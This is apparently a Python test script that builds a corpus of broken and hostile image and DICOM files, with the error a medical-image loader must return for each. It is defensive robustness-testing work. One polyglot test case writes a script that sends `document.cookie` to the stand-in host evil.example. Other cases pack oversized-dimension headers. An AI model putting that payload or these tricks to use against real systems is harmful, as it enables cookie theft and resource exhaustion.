"""Build a corpus of hostile, broken and borderline inputs for `load_image`, at test time.

    python tests/corpus/make_bad_inputs.py /tmp/bad-inputs     # writes the files, prints the table
    from tests.corpus.make_bad_inputs import build_corpus      # what the tests use

Nothing large is committed: every file is made here from a few lines of code
(Pillow, pydicom, hand-packed headers) or copied from pydicom's bundled
samples, so the corpus is always in step with the builders in
`pipeline.io.sample_files`. Each entry says what the loader must answer: a
fragment of the ImageLoadError message, or OK for files that must load
(colour and 16-bit images, and DICOM polyglots, which load but must lose
their preamble when de-identified). The file names lie on purpose where
that is the point (a text file called .dcm): the loader ignores names.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
import sys
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

if __package__ in (None, ""):  # run as a script: make the repository importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

import numpy as np  # noqa: E402
from PIL import Image  # noqa: E402
from pydicom.dataset import Dataset  # noqa: E402
from pydicom.sequence import Sequence  # noqa: E402
from pydicom.uid import JPEGBaseline8Bit  # noqa: E402

from pipeline.io.sample_files import dataset_bytes, dicom_dataset, gradient, raster_bytes  # noqa: E402

OK = "ok"
UNSUPPORTED = "file is not a supported image"
CORRUPT = "truncated or corrupt"
NO_PIXELS = "DICOM file has no pixel data"
PATIENT = ("CORPUS^SECRET-PATIENT", "CORPUS-MRN-31337")
# pydicom's own malformed samples, with what the loader says about each.
PYDICOM_SAMPLES = {
    "badVR.dcm": "DICOM pixel data is truncated or corrupt",
    "MR_truncated.dcm": "DICOM pixel data is truncated or corrupt",
    "rtplan_truncated.dcm": NO_PIXELS,
    "no_meta.dcm": UNSUPPORTED,  # starts with a stray byte, so it is not recognised as DICOM
    "no_meta_group_length.dcm": NO_PIXELS,
    "empty_charset_LEI.dcm": NO_PIXELS,
    "DICOMDIR-empty.dcm": NO_PIXELS,
}


@dataclass(frozen=True)
class BadInput:
    """One corpus file and the loader's required answer."""

    name: str
    data: bytes
    expected: str  # fragment of the ImageLoadError message, or OK
    identifiers: tuple[str, ...] = ()  # must never appear in an error message
    polyglot: bool = False  # valid DICOM whose preamble is also another format
    path: Path | None = None


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def huge_png(width: int, height: int) -> bytes:
    """A ~70-byte PNG whose valid IHDR (correct CRC) declares width x height 8-bit grey."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 16)) + _png_chunk(b"IEND", b""))


def huge_tiff(width: int, height: int) -> bytes:
    """A little-endian TIFF whose only IFD declares width x height, with 8 bytes of strip."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1),
               (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 8)]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHII", tag, kind, count, value) for tag, kind, count, value in entries
    ) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 16) + bytes(8) + ifd


def huge_bmp(width: int, height: int) -> bytes:
    """A 54-byte-header 8-bit BMP declaring width x height, with a few bytes of pixels."""
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 16, 0, 0, 54) + header + bytes(16)


def huge_jpeg(width: int, height: int) -> bytes:
    """SOI + a baseline SOF0 declaring width x height + EOI: no image data at all."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + sof + b"\xff\xd9"


def _with_syntax(ds: Dataset, uid: str) -> bytes:
    """`ds` written as explicit VR little endian, then relabelled with transfer syntax `uid`.

    pydicom refuses to write such a lie, so the meta element and the meta
    group length are patched in the bytes.
    """
    data = dataset_bytes(ds)
    at = data.index(b"\x02\x00\x10\x00UI")
    (old_length,) = struct.unpack_from("<H", data, at + 6)
    value = uid.encode("ascii") + b"\x00" * (len(uid) % 2)
    data = data[: at + 6] + struct.pack("<H", len(value)) + value + data[at + 8 + old_length:]
    (group_length,) = struct.unpack_from("<I", data, 140)  # (0002,0000) UL right after "DICM"
    return data[:140] + struct.pack("<I", group_length + len(value) - old_length) + data[144:]


def _dicom(pixels: np.ndarray | None = None, **attributes) -> Dataset:
    ds = dicom_dataset(gradient(32, 32) if pixels is None else pixels, **attributes)
    ds.PatientName, ds.PatientID = PATIENT
    return ds


def _raster_cases() -> list[tuple[str, bytes, str]]:
    gray = gradient(64, 64)
    rgb = np.dstack([gray, gray[::-1], gray[:, ::-1]])
    cases = []
    for fmt, ext in (("png", "png"), ("jpeg", "jpg"), ("bmp", "bmp"), ("tiff", "tif")):
        data = raster_bytes(gray, fmt)
        for label, cut in (("head", 12), ("quarter", len(data) // 4), ("half", len(data) // 2),
                           ("tail", len(data) - 64)):
            expected = UNSUPPORTED if fmt == "bmp" and cut < 18 else CORRUPT
            cases.append((f"truncated-{label}.{ext}", data[:cut], expected))
    crc = bytearray(raster_bytes(gray, "png"))
    crc[40] ^= 0xFF
    cases += [
        ("bad-crc.png", bytes(crc), CORRUPT),
        ("huge-40000x40000.png", huge_png(40000, 40000), "image is 40000 x 40000 pixels"),
        ("huge-100000x100000.tif", huge_tiff(100000, 100000), "image is 100000 x 100000 pixels"),
        ("huge-50000x50000.bmp", huge_bmp(50000, 50000), "image is 50000 x 50000 pixels"),
        ("huge-60000x60000.jpg", huge_jpeg(60000, 60000), "image is 60000 x 60000 pixels"),
        ("rgb.png", raster_bytes(rgb, "png"), OK),
        ("rgb.jpg", raster_bytes(rgb, "jpeg"), OK),
        ("16bit.png", raster_bytes(gradient(64, 64, dtype=np.uint16), "png"), OK),
        ("16bit.tif", raster_bytes(gradient(64, 64, dtype=np.uint16), "tiff"), OK),
    ]
    return cases


def _other_formats() -> list[tuple[str, bytes, str]]:
    rng = random.Random(20240601)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("IM0001.dcm", dataset_bytes(_dicom()))
    gif = io.BytesIO()
    Image.fromarray(gradient(32, 32)).save(gif, format="GIF")
    return [
        ("empty.png", b"", "file is empty"),
        ("report.dcm", b"Radiology report for CORPUS^SECRET-PATIENT\nNo focal lesion.\n", UNSUPPORTED),
        ("random.bin", bytes(rng.getrandbits(8) for _ in range(4096)), UNSUPPORTED),
        ("zeros.dcm", bytes(512), UNSUPPORTED),
        ("study.zip", archive.getvalue(), UNSUPPORTED),
        ("image.gif", gif.getvalue(), UNSUPPORTED),
        ("image.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', UNSUPPORTED),
        ("report.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n", UNSUPPORTED),
        ("IM0001.dcm.gz", gzip.compress(dataset_bytes(_dicom())), UNSUPPORTED),
        ("setup.exe", b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.", UNSUPPORTED),
    ]


def nested_dataset(depth: int, ds: Dataset | None = None) -> Dataset:
    """`ds` (by default the corpus's small DICOM) with `depth` levels of nested ReferencedImageSequence."""
    ds = inner = _dicom() if ds is None else ds
    for _ in range(depth):
        item = Dataset()
        item.ReferencedSOPInstanceUID = "1.2.3.4"
        inner.ReferencedImageSequence = Sequence([item])
        inner = item
    return ds


def _dicom_cases() -> list[tuple[str, bytes, str]]:
    no_pixels = _dicom()
    del no_pixels.PixelData
    huge = _dicom()
    huge.Rows = huge.Columns = 60000
    short = _dicom()
    short.PixelData = short.PixelData[:100]
    volume = _dicom(gradient(32, 32))  # five frames of pixels, no NumberOfFrames
    volume.PixelData = b"".join(gradient(32, 32, seed=i).tobytes() for i in range(5))
    frames = _dicom()
    frames.NumberOfFrames = 5000
    empty_image = _dicom()
    empty_image.Rows = 0
    four_samples = _dicom()
    four_samples.SamplesPerPixel = 4
    whole = dataset_bytes(_dicom())
    cases = [
        ("no-pixel-data.dcm", dataset_bytes(no_pixels), NO_PIXELS),
        ("huge-60000x60000.dcm", dataset_bytes(huge), "image is 60000 x 60000 pixels"),
        ("nested-50-deep.dcm", dataset_bytes(nested_dataset(50)), "nested more than 8 levels"),
        ("unknown-transfer-syntax.dcm", _with_syntax(_dicom(), "1.2.3.4.5.6.7.8"), "unknown transfer syntax"),
        ("wrong-transfer-syntax.dcm", _with_syntax(_dicom(), JPEGBaseline8Bit), "DICOM pixel data is truncated or corrupt"),
        ("pixel-data-too-short.dcm", dataset_bytes(short), "DICOM pixel data is truncated or corrupt"),
        ("volume-without-frame-count.dcm", dataset_bytes(volume), OK),  # first 32 x 32 slice shown
        ("5000-frames.dcm", dataset_bytes(frames), "file has 5000 frames, the limit is 1000"),
        ("zero-rows.dcm", dataset_bytes(empty_image), "it has no pixels to show"),
        ("four-samples.dcm", dataset_bytes(four_samples), "4 samples per pixel is not supported"),
        # Cut before the pixel data, a file cannot be told from a pixel-less object (report, plan).
        ("truncated-meta.dcm", whole[:150], NO_PIXELS),
        ("truncated-header.dcm", whole[: whole.index(b"MONOCHROME2")], NO_PIXELS),
        ("truncated-pixels.dcm", whole[:-100], "DICOM pixel data is truncated or corrupt"),
        ("dicm-then-garbage.dcm", bytes(128) + b"DICM" + b"\xff" * 64, NO_PIXELS),
        ("bare-dataset.dcm", dataset_bytes(_dicom(), preamble=False), OK),
        ("rgb.dcm", dataset_bytes(_dicom(np.dstack([gradient(32, 32)] * 3))), OK),
        ("16bit.dcm", dataset_bytes(_dicom(gradient(32, 32, dtype=np.uint16))), OK),
        ("signed-16bit-ct.dcm", dataset_bytes(_dicom(gradient(32, 32, dtype=np.int16), modality="CT")), OK),
    ]
    for name, preamble in (
        ("polyglot-html.dcm", b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"),
        ("polyglot-zip.dcm", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"payload.txt"),
        ("polyglot-pe.dcm", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"PE\x00\x00"),
    ):
        ds = _dicom()
        ds.preamble = preamble.ljust(128, b"\x00")[:128]
        cases.append((name, dataset_bytes(ds), OK))
    return cases


def _pydicom_samples() -> list[BadInput]:
    from pydicom import dcmread
    from pydicom.data import get_testdata_file

    samples = []
    for name, expected in PYDICOM_SAMPLES.items():
        path = get_testdata_file(name, download=False)
        if path is None:
            continue
        data = Path(path).read_bytes()
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                ds = dcmread(io.BytesIO(data), force=True, stop_before_pixels=True)
            identifiers = tuple(v for v in (str(ds.get("PatientName", "")), str(ds.get("PatientID", ""))) if len(v) >= 4)
        except Exception:
            identifiers = ()
        samples.append(BadInput(f"pydicom-{name}", data, expected, identifiers))
    return samples


def build_corpus(dest: Path) -> list[BadInput]:
    """Write every corpus file into `dest` (created if needed) and describe each."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    entries = [
        BadInput(name, data, expected, PATIENT if name.endswith(".dcm") else (),
                 polyglot=name.startswith("polyglot"))
        for name, data, expected in (*_raster_cases(), *_other_formats(), *_dicom_cases())
    ]
    entries += _pydicom_samples()
    written = []
    for entry in entries:
        path = dest / entry.name
        path.write_bytes(entry.data)
        written.append(BadInput(entry.name, entry.data, entry.expected, entry.identifiers, entry.polyglot, path))
    return written


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/corpus/make_bad_inputs.py DEST_FOLDER", file=sys.stderr)
        return 2
    corpus = build_corpus(Path(argv[0]))
    for entry in corpus:
        print(f"{entry.name:40s} {len(entry.data):9d} B  expect: {entry.expected}")
    print(f"{len(corpus)} files written to {argv[0]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
